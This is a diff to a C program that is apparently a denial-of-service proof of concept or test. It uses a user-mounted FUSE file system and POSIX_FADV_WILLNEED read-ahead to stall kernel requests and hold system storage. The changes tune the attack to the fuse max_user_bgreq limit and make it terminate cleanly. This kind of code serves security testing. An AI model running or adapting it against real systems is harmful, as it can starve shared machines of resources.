@@ -25,7 +25,6 @@
 #define FILE_NAME "bottomless"
 #define FILE_SIZE ((uint64_t)4 << 30)
 #define WINDOW 32		/* pages that one POSIX_FADV_WILLNEED reads, at least */
-#define MAX_PAGES 32768
 #define MOUNT_POINT "/tmp"	/* of the attacker's own mount namespace */
 
 /* ---- The server ------------------------------------------------------------ */
@@ -176,6 +175,24 @@ static void mount_own(struct run *r, struct server *srv)
 		bail_errno(r, "mount of a FUSE file system");
 }
 
+/*
+ * How many requests may wait for an answer, or whoever asks for one more waits, too.
+ * Some are left for those that do not read ahead.
+ */
+static unsigned int max_requests(struct run *r)
+{
+	static const char path[] = "/sys/module/fuse/parameters/max_user_bgreq";
+	FILE *f = fopen(path, "re");
+	unsigned int n;
+
+	if (!f)
+		bail_errno(r, "%s", path);
+	if (fscanf(f, "%u", &n) != 1 || n < 64)
+		bail(r, "%s: not a number over 63", path);
+	fclose(f);
+	return n - 16;
+}
+
 static void thread(struct run *r, void *(*fn)(void *arg), void *arg)
 {
 	pthread_t t;
@@ -220,11 +237,20 @@ static void attack(struct run *r, void *arg)
 	static int fd;
 	struct siege *s = arg;
 	struct siege_filler f;
-	uint64_t want = param_u64(r, "hold"), page = 0, before;
+	uint64_t want = param_u64(r, "hold"), page = 0, before, max;
 
 	srv.r = r;
+	max = max_requests(r) * WINDOW;
 	mount_own(r, &srv);
 	thread(r, serve, &srv);
+	/*
+	 * Closing is asked of the server, too, until it has said once that this is none
+	 * of its business. If this process were killed, nobody would be left to answer,
+	 * and it could not end.
+	 */
+	fd = open(MOUNT_POINT "/" FILE_NAME, O_RDONLY | O_CLOEXEC);
+	if (fd < 0 || close(fd))
+		bail_errno(r, "%s", FILE_NAME);
 	fd = open(MOUNT_POINT "/" FILE_NAME, O_RDONLY | O_CLOEXEC);
 	if (fd < 0)
 		bail_errno(r, "open of %s", FILE_NAME);
@@ -232,7 +258,7 @@ static void attack(struct run *r, void *arg)
 	f = siege_fill(r);
 	before = siege_storage_free(r);
 	/* Where pages are swapped out meanwhile, there may be room for ever. */
-	for (; siege_storage_free(r) + want > before && siege_room(r) && page < MAX_PAGES;
+	for (; siege_storage_free(r) + want > before && siege_room(r) && page < max;
 	     page += WINDOW) {
 		off_t at = (off_t)(page * page_size());
 		int err = posix_fadvise(fd, at, WINDOW * (off_t)page_size(), POSIX_FADV_WILLNEED);
